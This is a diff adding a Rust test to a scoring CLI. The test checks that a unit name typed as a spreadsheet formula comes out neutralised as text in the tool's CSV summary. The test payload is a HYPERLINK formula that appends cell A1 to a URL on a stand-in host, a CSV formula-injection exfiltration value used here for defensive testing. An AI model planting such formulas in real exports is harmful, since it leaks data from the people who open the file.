@@ -1238,3 +1238,25 @@ fn the_deduction_sheet_adds_up_to_the_points_lost() {
     );
     let _ = std::fs::remove_dir_all(&dir);
 }
+
+/// A unit's name typed as a formula in its forms stays a text in the CSV
+/// summary: Excel and WPS would run `=HYPERLINK(…)` when the bureau opens it.
+#[test]
+fn a_name_that_starts_a_formula_stays_a_text_in_the_csv() {
+    let dir = temp("csv-formula");
+    let example = std::fs::read_to_string(Path::new(MANIFEST).join(EXAMPLE)).expect("read example");
+    let named = example.replace(
+        "\"岳阳市岳阳楼区人民政府金融工作办公室\"",
+        "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"点此\")'",
+    );
+    std::fs::write(dir.join("unit.toml"), named).expect("write");
+    let run = jixiao(&["score", "--format", "csv", s(&dir.join("unit.toml"))]);
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+    let text = run.text();
+    assert!(
+        text.contains(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"点此\"\")\","),
+        "{text}"
+    );
+    assert!(!text.contains(",\"=HYPERLINK"), "{text}");
+    let _ = std::fs::remove_dir_all(&dir);
+}
